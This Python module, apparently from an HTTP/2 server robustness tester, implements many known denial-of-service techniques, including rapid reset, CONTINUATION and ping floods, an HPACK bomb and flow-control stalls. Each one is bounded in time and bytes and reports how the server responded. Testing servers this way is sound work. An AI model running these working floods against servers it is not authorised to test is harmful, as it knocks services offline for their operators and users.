"""What a peer can do to a server without breaking much of RFC 9113, or to make it do much for little: §10.5.

Each is bounded, in bytes or time, and tells what became of it.
"""

from __future__ import annotations

import contextlib
import dataclasses
import itertools
import socket
import ssl
import time
from typing import TYPE_CHECKING

from . import wire
from .peer import Closed, Peer, connected
from .received import Response, ViolationError
from .wire import (
    continuation,
    data,
    frame,
    get,
    headers,
    ping,
    post,
    pseudo,
    remembered,
    reset,
    settings,
    window_update,
)

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

    from .peer import Address

    Attack = Callable[["Ground"], str]



@dataclasses.dataclass(frozen=True)
class Ground:
    """Where an attack takes place.

    Attributes:
        seconds: how long it may last.
        most: bytes that it may send on a connection.
    """

    address: Address
    tls: ssl.SSLContext | None = None
    seconds: float = 4.0
    most: int = 8_000_000

    def peer(self, *pairs: tuple[int, int], receive_buffer: int = 0) -> Peer:
        return Peer(self.address, self.seconds, self.tls, settings=pairs, receive_buffer=receive_buffer)


def _said(peer: Peer) -> str:
    return f"GOAWAY {wire.name_of(peer.goaways[-1][1])}" if peer.goaways else "closed"


def _flood(ground: Ground, peer: Peer, parts: Iterator[bytes], reads: bool = True) -> str:
    """Send parts until the server has had enough of it, or the bounds are reached."""
    deadline = time.monotonic() + ground.seconds
    sent = count = 0
    peer.socket.settimeout(0.5)
    peer.timeout = 0.5
    buffer = bytearray()
    try:
        for part in parts:
            buffer += part
            count += 1
            if len(buffer) >= 4096:
                peer.socket.sendall(buffer)
                sent += len(buffer)
                buffer.clear()
                if reads:
                    _drain(peer)
            if sent > ground.most or time.monotonic() > deadline:
                break
        return _seen_after(peer, count)
    except TimeoutError:
        return f"{count} sent, then it took no more"
    except (Closed, ConnectionError, ssl.SSLError) as error:
        peer.broken = error
        return _seen_after(peer, count)


def _seen_after(peer: Peer, count: int) -> str:
    """What the server has said meanwhile; it may go on to take what it no longer looks at."""
    deadline = time.monotonic() + 0.5
    with contextlib.suppress(Closed, OSError):
        while not peer.goaways:
            # Not all that was sent was counted, and so too much of what comes looks wrong.
            with contextlib.suppress(ViolationError):
                peer.read(deadline)
    return f"{count} sent, {_said(peer)}" if peer.goaways or peer.broken else f"{count} taken"


def _drain(peer: Peer) -> None:
    """Read what is there now; what it is matters only where it ends the connection."""
    with contextlib.suppress(TimeoutError):
        while True:
            with contextlib.suppress(ViolationError):
                peer.read(time.monotonic())


def _streams(first: int = 1) -> Iterator[int]:
    return itertools.count(first, 2)


def rapid_reset(ground: Ground) -> str:
    """CVE-2023-44487: requests that are reset at once."""
    with ground.peer() as peer:
        return _flood(ground, peer, (get(stream, b"/bytes/1000") + reset(stream) for stream in _streams()))


def made_to_reset(ground: Ground) -> str:
    """CVE-2025-8671: requests with an error behind them, which the server has to reset."""
    with ground.peer() as peer:
        return _flood(ground, peer, (get(stream, b"/bytes/1000") + window_update(stream, 0) for stream in _streams()))


def malformed_requests(ground: Ground) -> str:
    bad = pseudo() + wire.literal(b"connection", b"close")
    with ground.peer() as peer:
        return _flood(ground, peer, (headers(stream, bad) for stream in _streams()))


def more_than_concurrent(ground: Ground) -> str:
    """Streams that are all left open, far beyond what is allowed."""
    with ground.peer() as peer:
        return _flood(ground, peer, (post(stream, b"/count") for stream in _streams()))


def continuation_flood(ground: Ground) -> str:
    """CVE-2024-27316: a field block without an end."""
    with ground.peer() as peer:
        part = wire.literal(b"x", b"a" * 1000)
        peer.settle()
        parts = itertools.chain([headers(1, pseudo(), 0)], (continuation(1, part, 0) for _ in itertools.count()))
        return _flood(ground, peer, parts)


def empty_continuations(ground: Ground) -> str:
    with ground.peer() as peer:
        peer.settle()
        parts = itertools.chain([headers(1, pseudo(), 0)], (continuation(1, b"", 0) for _ in itertools.count()))
        return _flood(ground, peer, parts)


def settings_flood(ground: Ground) -> str:
    """CVE-2019-9515: each has to be acknowledged, and nobody reads that."""
    with ground.peer(receive_buffer=4096) as peer:
        parts = (settings((wire.MAX_FIELDS, number)) for number in itertools.count(100))
        return _flood(ground, peer, parts, reads=False)


def ping_flood(ground: Ground) -> str:
    """CVE-2019-9512: each has to be answered, and nobody reads that."""
    with ground.peer(receive_buffer=4096) as peer:
        return _flood(ground, peer, (ping() for _ in itertools.count()), reads=False)


def priority_flood(ground: Ground) -> str:
    """CVE-2019-9513, and its like of RFC 9218."""
    with ground.peer() as peer:
        parts = (
            frame(wire.PRIORITY, 0, stream, wire.dependency(0)) + frame(0x10, 0, 0, b"\0\0\0\1u=%d" % (stream % 8))
            for stream in itertools.cycle(range(1, 2001, 2))
        )
        return _flood(ground, peer, parts)


def unknown_frames(ground: Ground) -> str:
    with ground.peer() as peer:
        return _flood(ground, peer, (frame(0xBA) for _ in itertools.count()))


def window_updates(ground: Ground) -> str:
    """Increments of 1, for the connection and for a stream that is open."""
    with ground.peer() as peer:
        peer.send(post(1, b"/count"))
        return _flood(ground, peer, (window_update(number % 2, 1) for number in itertools.count()))


def empty_data(ground: Ground) -> str:
    """CVE-2019-9518: frames that cost no window."""
    with ground.peer() as peer:
        peer.send(post(1, b"/count"))
        return _flood(ground, peer, (data(1) for _ in itertools.count()))


def data_after_reset(ground: Ground) -> str:
    """Empty frames on a stream that the server takes no more for."""
    with ground.peer() as peer:
        peer.send(post(1, b"/count") + reset(1))
        return _flood(ground, peer, (data(1) for _ in itertools.count()))


def padding_alone(ground: Ground) -> str:
    with ground.peer() as peer:
        peer.send(post(1, b"/count"))
        peer.wait_for(wire.SETTINGS)

        def parts() -> Iterator[bytes]:
            while True:
                while min(peer.window, peer.window_of(1)) < 256:
                    peer.read()
                peer.window -= 256
                peer.windows[1] = peer.window_of(1) - 256
                yield data(1, b"\xff" + b"\0" * 255, wire.PADDED)

        return _flood(ground, peer, parts())


def hpack_bomb(ground: Ground) -> str:
    """CVE-2016-1544: an entry as large as the table, and blocks that say it thousands of times."""
    with ground.peer() as peer:
        peer.send(headers(1, pseudo() + remembered(b"x", b"a" * 4000)))
        bomb = pseudo() + wire.indexed(62) * 16_000
        return _flood(ground, peer, (headers(stream, bomb) for stream in _streams(3)))


def table_resizes(ground: Ground) -> str:
    """The table is emptied and filled with each block."""
    block = wire.resize(0) + wire.resize(4096) + pseudo() + remembered(b"x", b"a" * 4000)
    with ground.peer() as peer:
        return _flood(ground, peer, (headers(stream, block) for stream in _streams()))


def huge_cookies(ground: Ground) -> str:
    """CVE-2019-9516 and crumbs: many fields of hardly a byte."""
    block = pseudo() + (wire.remembered(b"cookie", b"") + wire.indexed(62) * 15_000)
    with ground.peer() as peer:
        return _flood(ground, peer, (headers(stream, block) for stream in _streams()))


def _held(ground: Ground, peers: list[Peer], act: Callable[[Peer, int], None], every: float = 0.1) -> str:
    """Do something on each connection, over and over, as long as the server lets it."""
    deadline = time.monotonic() + ground.seconds
    ended = 0
    told: set[str] = set()
    alive = list(peers)
    for step in itertools.count():
        for peer in list(alive):
            try:
                act(peer, step)
                _drain(peer)
            except (Closed, OSError, AssertionError):
                alive.remove(peer)
                ended += 1
                told.add(_said(peer))
        if not alive or time.monotonic() > deadline:
            break
        time.sleep(every)  # The pace is what it is about.
    return f"{ended} of {len(peers)} connections ended {' or '.join(sorted(told))}".strip()


def _many(ground: Ground, number: int, *pairs: tuple[int, int], receive_buffer: int = 0) -> Iterator[list[Peer]]:
    with contextlib.ExitStack() as stack:
        peers = []
        for _ in range(number):
            with contextlib.suppress(OSError):
                peers.append(stack.enter_context(ground.peer(*pairs, receive_buffer=receive_buffer)))
        for peer in peers:
            peer.timeout = 1.0
        yield peers


_crowd = contextlib.contextmanager(_many)


def _at_once(peer: Peer) -> int:
    """How many streams the server allows, at most 100."""
    with contextlib.suppress(TimeoutError):
        peer.wait_until(lambda: peer.is_established)
    return min(100, peer.server.get(wire.MAX_STREAMS, 100))


def windows_of_1(ground: Ground) -> str:
    """CVE-2019-9511: a byte of each response at a time."""
    with _crowd(ground, 4, (wire.INITIAL_WINDOW, 1)) as peers:

        def act(peer: Peer, step: int) -> None:
            peer.returns_windows = False
            last = 2 * _at_once(peer)
            if step == 0:
                peer.send(b"".join(get(stream, b"/bytes/100000") for stream in range(1, last, 2)))
            else:
                peer.send(window_update(0, last) + b"".join(window_update(stream, 1) for stream in range(1, last, 2)))

        return _held(ground, peers, act)


def windows_of_0(ground: Ground) -> str:
    """Responses that nobody ever lets out."""
    with _crowd(ground, 8, (wire.INITIAL_WINDOW, 0)) as peers:

        def act(peer: Peer, step: int) -> None:
            if step == 0:
                last = 2 * _at_once(peer)
                peer.send(b"".join(get(stream, b"/bytes/1000000") for stream in range(1, last, 2)))

        return _held(ground, peers, act)


def slow_content(ground: Ground) -> str:
    """A byte on each of a hundred streams of each of several connections, now and then."""
    with _crowd(ground, 4) as peers:

        def act(peer: Peer, step: int) -> None:
            last = 2 * _at_once(peer)
            if step == 0:
                peer.send(b"".join(post(stream, b"/count") for stream in range(1, last, 2)))
            elif step % 10 == 0:
                peer.send(b"".join(data(stream, b"a") for stream in range(1, last, 2)))

        return _held(ground, peers, act)


def unread_responses(ground: Ground) -> str:
    """Windows as large as can be, and nobody who reads."""
    pairs = (wire.INITIAL_WINDOW, wire.MAX_WINDOW), (wire.MAX_FRAME, 2**24 - 1)
    with _crowd(ground, 8, *pairs, receive_buffer=4096) as peers:
        for peer in peers:
            peer.returns_windows = False
            last = 2 * _at_once(peer)
            with contextlib.suppress(OSError):
                peer.send(window_update(0, wire.MAX_WINDOW - wire.DEFAULT_WINDOW))
                peer.send(b"".join(get(stream, b"/bytes/20000000") for stream in range(1, last, 2)))
        time.sleep(ground.seconds)  # What it is about is that nothing is done.
        return f"{len(peers)} connections unread"


def unfinished_blocks(ground: Ground) -> str:
    """Field blocks that wait for their end, on many connections."""
    with _crowd(ground, 100) as peers:

        def act(peer: Peer, step: int) -> None:
            if step == 0:
                peer.settle()
                peer.send(headers(1, pseudo() + wire.literal(b"x", b"a" * 12_000), 0))

        return _held(ground, peers, act)


def half_a_preface(ground: Ground) -> str:
    """Connections that say hardly anything."""
    sockets: list[socket.socket] = []
    try:
        for _ in range(200):
            with contextlib.suppress(OSError):
                sockets.append(connected(ground.address, 1.0, ground.tls))
                sockets[-1].sendall(wire.PREFACE[:12])
        time.sleep(ground.seconds)  # What it is about is that nothing is done.
        return f"{len(sockets)} connections of half a preface"
    finally:
        for one in sockets:
            one.close()


def uploads_that_nobody_reads(ground: Ground) -> str:
    """Windows filled with content on every stream, and no end of it."""
    with _crowd(ground, 4) as peers:

        def act(peer: Peer, step: int) -> None:
            last = 2 * _at_once(peer)
            if step == 0:
                for stream in range(1, last, 2):
                    peer.responses[stream] = Response()
                    peer.send(post(stream, b"/hold"))
            stream = 1 + 2 * (step % (last // 2))
            room = min(peer.window, peer.window_of(stream), 16384)
            if room > 0:
                peer.window -= room
                peer.windows[stream] = peer.window_of(stream) - room
                peer.send(data(stream, b"x" * room))

        return _held(ground, peers, act, every=0.01)


ATTACKS: dict[str, Attack] = {
    attack.__name__: attack
    for attack in (
        rapid_reset, made_to_reset, malformed_requests, more_than_concurrent, continuation_flood, empty_continuations,
        settings_flood, ping_flood, priority_flood, unknown_frames, window_updates, empty_data, data_after_reset,
        padding_alone, hpack_bomb, table_resizes, huge_cookies, windows_of_1, windows_of_0, slow_content,
        unread_responses,
        unfinished_blocks, half_a_preface, uploads_that_nobody_reads,
    )
}  # fmt: skip
